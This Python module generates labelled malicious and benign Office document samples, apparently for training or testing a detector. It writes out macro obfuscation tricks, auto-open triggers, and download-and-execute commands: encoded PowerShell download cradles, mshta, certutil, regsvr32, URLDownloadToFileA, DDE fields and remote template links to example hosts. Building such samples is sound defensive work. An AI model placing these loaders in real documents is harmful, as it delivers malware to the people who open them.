"""office_samples.py - Office documents: macros, Excel 4 macros, links,
objects, RTF; each technique in many variants, and the honest documents that
look like it. All of it is inert: addresses are of example domains, commands
are cut short."""

import base64

from draw import Sample

import objects
import packages
import vba
import workbooks

MODULE_NAMES = ("Module1", "NewMacros", "Sheet1", "ThisDocument", "Modul1")
AUTOS = {"doc": ("AutoOpen", "Document_Open", "AutoExec", "AutoClose",
                 "Document_Close"),
         "xls": ("Auto_Open", "Workbook_Open", "Workbook_Activate")}


# --- expressions that hide a text ---

def plain(draw, text):
    del draw
    return '"' + text.replace('"', '""') + '"'


def joined(draw, text):
    pieces, at = [], 0
    while at < len(text):
        step = draw.randint(1, 5)
        pieces.append(plain(draw, text[at:at + step]))
        at += step
    return draw.choice((" & ", " + ")).join(pieces)


def numbered(draw, text):
    return " & ".join(f"Chr({ord(c)})" if draw.random() < 0.8
                      else plain(draw, c) for c in text)


def turned(draw, text):
    return f"StrReverse({plain(draw, text[::-1])})"


def patched(draw, text):
    mark = draw.letters(3, 4)
    at = sorted(draw.sample(range(1, max(len(text), 4)), 3))
    cut = text
    for place in reversed(at):
        cut = cut[:place] + mark + cut[place:]
    return f'Replace({plain(draw, cut)}, "{mark}", "")'


def split_up(draw, text):
    mark = draw.choice("^~|!")
    return f'Join(Split({plain(draw, mark.join(text))}, "{mark}"), "")'


def hexed(draw, text):
    return f'{draw.letters()}("{text.encode().hex()}")'


HIDINGS = (plain, joined, numbered, turned, patched, split_up, hexed)


def command(draw):
    address = draw.address(draw.choice(("exe", "dll", "ps1", "hta")))
    encoded = base64.b64encode(
        f"IEX(New-Object Net.WebClient).DownloadString('{address}')"
        .encode("utf-16-le")).decode()
    return draw.choice((
        f"powershell -w hidden -e {encoded}",
        f"cmd /c powershell -nop -c iwr {address} -o %temp%\\a.exe",
        f"mshta {address}",
        f"cmd /c certutil -urlcache -f {address} %temp%\\b.dll",
        "regsvr32 /s %temp%\\c.ocx",
        "rundll32 %temp%\\d.dll,Start",
        f"wscript {draw.letters()}.vbs"))


# --- what a malicious macro does at its end ---

def by_shell(draw, hide):
    return f"    Shell {hide(draw, command(draw))}, 0\n"


def by_object(draw, hide):
    name = draw.letters()
    return (f"    Set {name} = CreateObject({hide(draw, 'WScript.Shell')})\n"
            f"    {name}.Run {hide(draw, command(draw))}, 0\n")


def by_wmi(draw, hide):
    name = draw.letters()
    return (f"    Set {name} = GetObject({hide(draw, 'winmgmts:')})"
            f".Get({hide(draw, 'Win32_Process')})\n"
            f"    {name}.Create {hide(draw, command(draw))}, Null, Null, 0\n")


def by_download(draw, hide):
    a, b = draw.letters(), draw.letters()
    return (f"    Set {a} = CreateObject({hide(draw, 'MSXML2.XMLHTTP')})\n"
            f"    {a}.Open \"GET\", {hide(draw, draw.address())}, False\n"
            f"    {a}.send\n"
            f"    Set {b} = CreateObject({hide(draw, 'ADODB.Stream')})\n"
            f"    {b}.Write {a}.responseBody\n"
            f"    {b}.SaveToFile Environ(\"TEMP\") & \"\\a.exe\", 2\n"
            f"    Shell Environ(\"TEMP\") & \"\\a.exe\", 0\n")


def by_property(draw, hide):
    del hide
    source = draw.choice((
        "ActiveDocument.BuiltInDocumentProperties(\"Comments\")",
        "UserForm1.Label1.Caption", "ActiveDocument.Variables(\"a\").Value",
        "Cells(1, 99).Value"))
    return f"    Shell {source}, 0\n"


def by_file(draw, hide):
    name = draw.letters()
    return (f"    {name} = Environ(\"TEMP\") & \"\\{name}.vbs\"\n"
            f"    Open {name} For Output As #1\n"
            f"    Print #1, {hide(draw, command(draw))}\n"
            "    Close #1\n"
            f"    CreateObject(\"Shell.Application\").ShellExecute {name}\n")


ENDS = (by_shell, by_object, by_wmi, by_download, by_property, by_file)

DECLARES = (
    'Private Declare PtrSafe Function {0} Lib "urlmon" Alias '
    '"URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, ByVal c As '
    'String, ByVal d As Long, ByVal e As LongPtr) As Long\n',
    'Private Declare Function {0} Lib "kernel32" Alias "VirtualAlloc" (ByVal '
    'a As Long, ByVal b As Long, ByVal c As Long, ByVal d As Long) As Long\n')


def filler(draw, strange):
    """Procedures that do nothing of interest."""
    made = ""
    for _ in range(draw.randint(0, 4)):
        name = draw.letters() if strange else draw.word().title()
        value = draw.letters() if strange else draw.word()
        made += (f"Sub {name}()\n    Dim {value} As Long\n"
                 f"    For {value} = 1 To {draw.randint(5, 99)}\n"
                 f"        Debug.Print {value} * {draw.randint(2, 9)}\n"
                 "    Next\nEnd Sub\n")
    return made


def malicious_source(draw, kind, end, hide):
    auto = draw.choice(AUTOS[kind])
    head = ""
    if draw.random() < 0.15:
        head = draw.choice(DECLARES).format(draw.letters())
    wait = draw.choice(("", "", "    If Application.RecentFiles.Count < 3 "
                        "Then Exit Sub\n", "    Application.Wait Now + "
                        "TimeValue(\"0:00:05\")\n"))
    body = end(draw, hide)
    if draw.random() < 0.4:
        worker = draw.letters()
        return (head + filler(draw, True) + f"Sub {auto}()\n{wait}"
                f"    {worker}\nEnd Sub\nSub {worker}()\n{body}End Sub\n")
    return (head + filler(draw, True) + f"Sub {auto}()\n{wait}{body}End Sub\n"
            + filler(draw, True))


def wrapped(draw, kind, source, locked=False, form=None):
    """A document of one of the forms that hold macros, and its ending."""
    modules = [vba.Module("ThisDocument" if kind == "doc" else "ThisWorkbook",
                          "", "document"),
               vba.Module(draw.choice(MODULE_NAMES[:3]), source)]
    if form:
        modules.append(vba.Module("UserForm1", "", "form", form=form))
    project = vba.Project(modules, locked=locked)
    if kind == "xls":
        return vba.xls(project), "xls"
    way = draw.choice(("doc", "doc", "docm", "docm", "mhtml", "flat"))
    if way == "docm":
        return vba.docm(project), "docm"
    if way == "mhtml":
        return vba.mhtml(project), "doc"
    if way == "flat":
        return vba.flat_opc(project), "xml"
    return vba.doc(project), "doc"


def bad_macros(draw):
    for end in ENDS:
        for hide in HIDINGS:
            for kind in ("doc", "xls"):
                template = f"{end.__name__} {hide.__name__}"
                for _ in range(4):
                    source = malicious_source(draw, kind, end, hide)
                    form = None
                    if end is by_property:
                        form = command(draw) + draw.letters(20, 200)
                    data, ending = wrapped(draw, kind, source,
                                           draw.random() < 0.3, form)
                    yield Sample("vba", template, True,
                                 f"{draw.stem()}.{ending}", data)


def bad_stomped(draw):
    for number in range(24):
        cache = bytes(draw.randint(500, 5000))
        names = ("Word", draw.choice(AUTOS["doc"]),
                 draw.choice(("Shell", "CreateObject", "GetObject")))
        gone = number % 2 == 0
        project = vba.Project(
            [vba.Module("ThisDocument", "", "document"),
             vba.Module("M", "" if gone else filler(draw, False),
                        cache=cache + b"\x1a\0powershell -e\0")],
            names=names)
        yield Sample("vba-stomped", f"stomped {gone}", True,
                     f"{draw.stem()}.doc", vba.doc(project))


# --- honest macros ---

HONEST = {
    "format": "    Range(\"A1:F1\").Font.Bold = True\n    Columns(\"A:F\")."
              "AutoFit\n",
    "message": "    MsgBox \"Please check the totals.\"\n",
    "sum": "    Dim i As Long\n    For i = 2 To 100\n        Cells(i, 5) = "
           "Cells(i, 3) * Cells(i, 4)\n    Next\n",
    "dictionary": "    Dim d\n    Set d = CreateObject(\"Scripting."
                  "Dictionary\")\n    d.Add \"a\", 1\n",
    "database": "    Dim c\n    Set c = CreateObject(\"ADODB.Connection\")\n"
                "    c.Open \"Provider=SQLOLEDB;Data Source=server\"\n",
    "outlook": "    Dim o\n    Set o = CreateObject(\"Outlook.Application\")\n"
               "    o.CreateItem(0).Display\n",
    "save": "    ActiveWorkbook.SaveAs \"\\\\server\\share\\\" & Format(Date, "
            "\"yyyymmdd\") & \".xlsx\"\n",
    "backup": "    FileCopy \"C:\\data\\book.xls\", \"D:\\backup\\book.xls\"\n",
    "export": "    Open \"C:\\data\\export.csv\" For Output As #1\n    Print "
              "#1, Cells(1, 1)\n    Close #1\n",
    "import": "    Workbooks.Open \"\\\\server\\share\\prices.xls\"\n",
    "text": "    s = Replace(Cells(1, 1).Value, \" \", \"\")\n    a = Split(s, "
            "\",\")\n    t = UCase(Left(s, 1)) & Mid(s, 2)\n",
    "character": "    Cells(1, 1) = \"one\" & Chr(10) & \"two\" & vbCrLf & "
                 "Chr(65)\n",
    "files": "    Dim f\n    Set f = CreateObject(\"Scripting.FileSystemObject"
             "\")\n    For Each x In f.GetFolder(\"C:\\data\").Files\n    Next"
             "\n",
    "link": "    ActiveWorkbook.FollowHyperlink \"https://intranet.example/\""
            "\n",
    "web": "    With ActiveSheet.QueryTables.Add(\"URL;https://rates.example/"
           "today\", Range(\"A1\"))\n        .Refresh\n    End With\n",
    "user": "    Cells(1, 1) = Environ(\"USERNAME\")\n    Application."
            "StatusBar = False\n",
    "explorer": "    Shell \"explorer.exe C:\\data\", vbNormalFocus\n",
    "wait": "    Application.Wait Now + TimeValue(\"00:00:01\")\n",
    "print": "    ActiveSheet.PrintOut Copies:=2\n",
    "protect": "    ActiveSheet.Protect Password:=\"1234\"\n",
}
HONEST_DECLARE = ('Private Declare PtrSafe Function GetTickCount Lib '
                  '"kernel32" () As Long\n')


def honest_source(draw, kind, works):
    runs = draw.random() < 0.5
    name = draw.choice(AUTOS[kind][:2]) if runs else draw.word().title() + "Up"
    declare = HONEST_DECLARE if draw.random() < 0.1 else ""
    return (declare + "Option Explicit\n" + filler(draw, False)
            + f"Sub {name}()\n" + "".join(HONEST[work] for work in works)
            + "End Sub\n" + filler(draw, False))


def good_macros(draw):
    works = list(HONEST)
    for number in range(260):
        kind = draw.choice(("doc", "xls", "xls"))
        chosen = draw.some(works, 1, 6)
        data, ending = wrapped(draw, kind, honest_source(draw, kind, chosen),
                               draw.random() < 0.2)
        yield Sample("vba", f"honest {number % 20}", False,
                     f"{draw.stem()}.{ending}", data)


# --- Excel 4 macros ---

def bad_xlm(draw):
    states = (workbooks.HIDDEN, workbooks.VERY_HIDDEN, workbooks.VISIBLE)
    for number in range(36):
        address = draw.address(draw.choice(("ocx", "dll", "html")))
        if number % 2:
            options = workbooks.downloader(address, draw.choice(states))
        else:
            options = workbooks.pieces(
                draw.choice(("regsvr32", "=EXEC(\"mshta\")", "urlmon",
                             "rundll32 a,b", "CALL(\"urlmon\")")),
                draw.choice(states))
        yield Sample("xlm", f"xls {number % 2} {number % 3}", True,
                     f"{draw.stem()}.xls", workbooks.xls(**options))
    for number in range(36):
        address = draw.address(draw.choice(("ocx", "dll", "html")))
        formulas = draw.some([
            f'CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{address}",'
            '"..\\b.ocx",0,0)',
            'EXEC("regsvr32 "&CHAR(46)&".\\b.ocx")',
            f'EXEC("cmd /c mshta {address}")',
            "FORMULA.FILL(A1&A2&CHAR(61),A3)", "GET.WORKSPACE(42)",
            "RUN(A9)", "GOTO(B7)", "HALT()"], 4)
        if not any("EXEC" in one or "CALL" in one for one in formulas):
            formulas[0] = f'EXEC("mshta {address}")'
        book = packages.xlsx(
            [(0, ["Enable Editing"])] if number % 2 else [(0, ())],
            [(draw.choice((0, 1, 2)), formulas)],
            [("_xlnm.Auto_Open", number % 3 > 0, "Macro1!$A$1")],
            draw.some(["Protected View", "Enable Content"], 0), pictures=1)
        yield Sample("xlm", f"xlsm {number % 4}", True,
                     f"{draw.stem()}.xlsm", book.bytes())
    for number in range(12):
        string, call = packages.string, workbooks.call
        book = packages.xlsb(
            1, [(1 + number % 2, [
                string(f"mshta {draw.address('html')}") + call("EXEC", 1),
                workbooks.integer(65) + call("CHAR", 1)
                + packages.cell(1, 1) + workbooks.join()
                + packages.cell(2, 1) + call("FORMULA", 2)])],
            [("_xlnm.Auto_Open", True, packages.cell(0, 0))],
            draw.some(["Enable Content"], 0), ())
        yield Sample("xlm", "xlsb", True, f"{draw.stem()}.xlsb", book.bytes())


def good_xlm(draw):
    for number in range(16):
        options = workbooks.calculations()
        options["strings"] = [draw.word() for _ in range(number)]
        yield Sample("xlm", "calculations", False, f"{draw.stem()}.xls",
                     workbooks.xls(**options))
    for number in range(24):
        book = packages.xlsx(
            [(0, [draw.word() for _ in range(9)]), (number % 3, ())], (),
            [("Total", number % 2 == 0, "A1")], [draw.word()],
            pictures=number % 4)
        yield Sample("office", "workbook", False, f"{draw.stem()}.xlsx",
                     book.bytes())


# --- links, objects, lures ---

LURES = ("Enable Editing", "Enable Content", "コンテンツの有効化",
         "編集を有効にする", "Protected View",
         "copy the file to the following folder and run again: Templates")


def bad_links(draw):
    for number in range(24):
        program = draw.choice(("cmd.exe", "powershell", "mshta.exe"))
        line = (f'DDEAUTO c:\\\\windows\\\\system32\\\\{program} "/c '
                f'{command(draw)[:60]}"')
        if number % 3 == 0:
            book = packages.xlsx(dde=[("cmd", f"/c {command(draw)[:40]}")])
            yield Sample("office-dde", "xlsx", True, f"{draw.stem()}.xlsx",
                         book.bytes())
        elif number % 3 == 1:
            yield Sample("office-dde", "docx", True, f"{draw.stem()}.docx",
                         packages.docx([packages.field(
                             line, draw.randint(1, 6))]).bytes())
        else:
            yield Sample("office-dde", "doc", True, f"{draw.stem()}.doc",
                         packages.doc(text=packages.doc_field(line, "none")))
    for number in range(30):
        target = draw.address(draw.choice(("dotm", "dot", "rtf")))
        extra = draw.some([("image", draw.address("png")),
                           ("hyperlink", draw.address("html"))], 0)
        yield Sample("office-template", f"template {number % 3}", True,
                     f"{draw.stem()}.docx", packages.docx(
                         [packages.run(draw.word())],
                         [("attachedTemplate", target), *extra],
                         pictures=number % 3).bytes())
    for number in range(30):
        target = draw.choice((
            f"mhtml:{draw.address('html')}!x-usc:", draw.address("html") + "!",
            f"script:{draw.address('sct')}", "ms-msdt:/id PCWDiagnostic",
            f"\\\\{draw.choice(('203.0.113.9', 'f.example'))}\\s\\a.htm"))
        kind = draw.choice(("oleObject", "frame", "oleObject"))
        yield Sample("office-object", f"moniker {number % 3}", True,
                     f"{draw.stem()}.docx", packages.docx(
                         [packages.run(draw.word())], [(kind, target)],
                         pictures=number % 2).bytes())


def bad_objects(draw):
    for number in range(30):
        name = draw.choice((f"{draw.stem()}.pdf.js", "document.vbs", "a.exe",
                            "view.hta", "open.lnk", "scan.wsf", "run.bat"))
        content = (b"MZ" + bytes(120) if name.endswith("exe")
                   else b"var a = new ActiveXObject('WScript.Shell');")
        inner = objects.package(name, content)
        if number % 3 == 2:
            data = objects.rtf(objects.one_object(
                objects.embedded("Package", objects.wrapped(name, content)),
                write=draw.choice((objects.plain, objects.stuffed))))
            yield Sample("office-package", "rtf", True, f"{draw.stem()}.doc",
                         data)
        else:
            yield Sample("office-package", "doc", True, f"{draw.stem()}.doc",
                         objects.doc({"_1": inner}))
    for number in range(30):
        ole1 = objects.embedded("Equation.3",
                                objects.alone(objects.equation()))
        write = draw.choice((objects.plain, objects.spaced, objects.stuffed))
        words = draw.choice(("\\objemb", "\\objemb\\objupdate", "\\objocx"))
        yield Sample("rtf-equation", f"equation {number % 3}", True,
                     f"{draw.stem()}.{draw.choice(('doc', 'rtf'))}",
                     objects.rtf(objects.one_object(ole1, words, write=write)))
    for number in range(20):
        link = objects.one_object(
            objects.embedded("OLE2Link", objects.alone(
                objects.link(draw.address("hta")))),
            "\\objautlink\\objupdate")
        template = "{\\*\\template " + draw.address("dotm") + "}"
        yield Sample("rtf-link", f"link {number % 2}", True,
                     f"{draw.stem()}.rtf",
                     objects.rtf(link if number % 2 else template))


def good_documents(draw):
    ole1 = objects.embedded
    for number in range(60):
        body = [packages.run(draw.word() + " ") for _ in range(
            draw.randint(3, 60))]
        relations = draw.some([
            ("hyperlink", "https://www.example/"),
            ("hyperlink", "mailto:a@b.example"),
            ("image", "https://img.example/logo.png"),
            ("attachedTemplate", "file:///C:/Templates/letter.dotx"),
            ("hyperlink", "\\\\server\\share\\plan.xlsx")], 0)
        yield Sample("office", f"letter {number % 6}", False,
                     f"{draw.stem()}.docx", packages.docx(
                         body, relations, pictures=number % 4).bytes())
    for number in range(24):
        inner = {"_1": objects.workbook()}
        if number % 2:
            inner["_2"] = objects.package("plan.xlsx", b"PK\3\4" + bytes(60))
        if number % 3 == 0:
            inner["_3"] = objects.control()
        yield Sample("office", f"objects {number % 6}", False,
                     f"{draw.stem()}.doc", objects.doc(inner))
    for number in range(24):
        parts = ["{\\pict\\pngblip 89504e47}" * (number % 3)]
        if number % 2:
            parts.append(objects.one_object(
                ole1("Excel.Sheet.8", objects.alone(objects.workbook()))))
        parts.append('{\\field{\\*\\fldinst HYPERLINK '
                     '"https://www.example/"}}')
        yield Sample("rtf", f"letter {number % 6}", False,
                     f"{draw.stem()}.rtf", objects.rtf(*parts))
    # A guide that tells how to enable macros is no lure.
    for number in range(12):
        text = [packages.run(f"{word} ") for word in
                ("In this course you learn how macros work.",) * 30]
        text.append(packages.run(draw.choice(LURES)))
        yield Sample("office", "guide", False, f"{draw.stem()}.docx",
                     packages.docx(text, pictures=4).bytes())


def samples(draw):
    for make in (bad_macros, bad_stomped, good_macros, bad_xlm, good_xlm,
                 bad_links, bad_objects, good_documents):
        yield from make(draw)
